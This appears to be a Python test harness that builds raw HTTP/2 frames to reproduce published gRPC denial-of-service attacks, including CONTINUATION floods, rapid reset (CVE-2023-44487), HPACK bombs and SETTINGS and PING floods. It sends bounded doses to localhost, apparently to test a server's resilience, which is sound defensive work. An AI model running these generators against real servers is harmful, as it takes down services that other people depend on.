"""HTTP/2 as an attacker writes it: frames by hand, over TLS, acknowledging nothing.

Each attack is a generator of bytes, bounded by itself. They are those published against gRPC
before 1.56: header blocks without end (CVE-2023-33953), streams that are reset as soon as they are
opened (CVE-2023-44487), and their relatives.
"""
import contextlib
import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
FRAME_MAX = 16384  # What every peer takes.
MIB = 1 << 20


def frame(kind, flags=0, stream=0, payload=b""):
    return (len(payload).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack("!I", stream)
            + payload)


def text(value):
    """An HPACK string; up to 126 bytes."""
    assert len(value) < 127
    return bytes([len(value)]) + value


def integer(value, prefix=7):
    """An HPACK integer behind a prefix of so many bits, which are 0 before it."""
    limit = (1 << prefix) - 1
    if value < limit:
        return bytes([value])
    out, value = bytearray([limit]), value - limit
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes(out + bytes([value]))


def request(path=b"/muster.v1.AgentLink/Connect"):
    """The header block of a call."""
    return (b"\x83\x87" + b"\x04" + text(path) + b"\x01" + text(b"gateway.muster.internal")
            + b"\x00" + text(b"te") + text(b"trailers")
            + b"\x00" + text(b"content-type") + text(b"application/grpc"))


def opening():
    return PREFACE + frame(SETTINGS)


def continued(block, first=b"", stream=1):
    """A header block in frames, which ends with none of them."""
    yield frame(HEADERS, 0, stream, first)
    part = b""
    for piece in block:
        part += piece
        while len(part) >= FRAME_MAX:
            yield frame(CONTINUATION, 0, stream, part[:FRAME_MAX])
            part = part[FRAME_MAX:]
    yield frame(CONTINUATION, 0, stream, part)


def one_string(mib):
    """One header whose value goes on and on."""
    def block():
        for _ in range(mib * MIB // FRAME_MAX):
            yield b"a" * FRAME_MAX
    return continued(block(), request() + b"\x00" + text(b"x-long") + integer(64 * MIB))


def padded_integer(mib):
    """One length that goes on and on and says nothing."""
    def block():
        for _ in range(mib * MIB // FRAME_MAX):
            yield b"\x80" * FRAME_MAX
    return continued(block(), request() + b"\x00\x7f")


def many_headers(mib):
    """Headers of 4 KiB each, never the last of them."""
    one = b"\x00" + text(b"x-header") + integer(4096) + b"v" * 4096
    return continued((one for _ in range(mib * MIB // len(one))), request())


def indexed_bomb(mib):
    """One byte each for a header of 4 KiB that was said before."""
    entry = b"\x40" + text(b"x-bomb") + integer(3900) + b"b" * 3900
    def block():
        for _ in range(mib * MIB // FRAME_MAX):
            yield b"\xbe" * FRAME_MAX  # The newest of the dynamic table.
    return continued(block(), request() + entry)


def table_resizes(mib):
    """The size of the dynamic table changes, and changes."""
    def block():
        for _ in range(mib * MIB // FRAME_MAX):
            yield (b"\x20\x3f\xe1\x1f" * (FRAME_MAX // 4))
    return continued(block())


def empty_continuations(count):
    """A header block in frames that hold nothing."""
    yield frame(HEADERS, 0, 1, request())
    for _ in range(count // 100):
        yield frame(CONTINUATION, 0, 1) * 100


def rapid_reset(count):
    """Calls that are taken back at once."""
    block = request()
    reset = struct.pack("!I", 8)
    for first in range(1, 2 * count, 200):
        yield b"".join(frame(HEADERS, END_HEADERS, n, block) + frame(RST_STREAM, 0, n, reset)
                       for n in range(first, first + 200, 2))


def broken_calls(count):
    """Calls that the other end must reset: a window's update by nothing, on each."""
    block = request()
    for first in range(1, 2 * count, 200):
        yield b"".join(frame(HEADERS, END_HEADERS, n, block)
                       + frame(WINDOW_UPDATE, 0, n, bytes(4)) for n in range(first, first + 200, 2))


def too_many_streams(count):
    """More open calls than are allowed, whose allowance was never acknowledged."""
    block = request()
    for first in range(1, 2 * count, 200):
        yield b"".join(frame(HEADERS, END_HEADERS, n, block) for n in range(first, first + 200, 2))


def settings(count):
    """Each wants to be acknowledged, and no acknowledgement is read."""
    for _ in range(count // 100):
        yield frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 65535)) * 100


def pings(count):
    for n in range(count // 100):
        yield frame(PING, 0, 0, struct.pack("!Q", n)) * 100


def empty_data(count):
    """On one call, nothing, again and again."""
    yield frame(HEADERS, END_HEADERS, 1, request())
    for _ in range(count // 100):
        yield frame(DATA, 0, 1) * 100


def long_before_settings():
    """A header beyond what is allowed, by one that has not acknowledged the limit."""
    value = integer(9000) + b"l" * 9000
    yield frame(HEADERS, END_HEADERS, 1, request() + b"\x00" + text(b"x-long") + value)


def garbage(mib):
    """Frames of kinds that there are not, and of a length beyond what is allowed."""
    for _ in range(mib * 64):
        yield frame(0xee, 0xff, 0x7fffffff, b"g" * 16000)
    yield frame(DATA, 0, 1, b"g" * (FRAME_MAX + 1))


# By name: a bounded dose of each.
ATTACKS = {
    "one string without end": lambda: one_string(1),
    "one integer without end": lambda: padded_integer(1),
    "many headers": lambda: many_headers(32),
    "indexed headers": lambda: indexed_bomb(1),
    "table sizes": lambda: table_resizes(4),
    "empty continuations": lambda: empty_continuations(200_000),
    "rapid reset": lambda: rapid_reset(3_000),
    "calls to be reset": lambda: broken_calls(3_000),
    "too many streams": lambda: too_many_streams(3_000),
    "settings": lambda: settings(100_000),
    "pings": lambda: pings(100_000),
    "empty data": lambda: empty_data(200_000),
    "a long header before the settings": long_before_settings,
    "garbage": lambda: garbage(4),
}


def context(certificate=None, key=None, version=None):
    """For a client that believes anybody."""
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    made.check_hostname, made.verify_mode = False, ssl.CERT_NONE
    made.set_alpn_protocols(["h2"])
    if version:
        made.minimum_version = made.maximum_version = version
    if certificate:
        made.load_cert_chain(certificate, key)
    return made


def attack(port, tls, parts, stays_s=0.5):
    """Sends as much of `parts` as is taken and stays a while; how many bytes that was."""
    sent = 0
    with contextlib.suppress(OSError, ssl.SSLError), \
            socket.create_connection(("127.0.0.1", port), 10) as raw, \
            (tls.wrap_socket(raw) if tls else raw) as connection:
        connection.sendall(opening())
        for part in parts:
            connection.sendall(part)
            sent += len(part)
        until = time.monotonic() + stays_s
        while (left := until - time.monotonic()) > 0:
            connection.settimeout(left)
            if not connection.recv(65536):
                break
    return sent
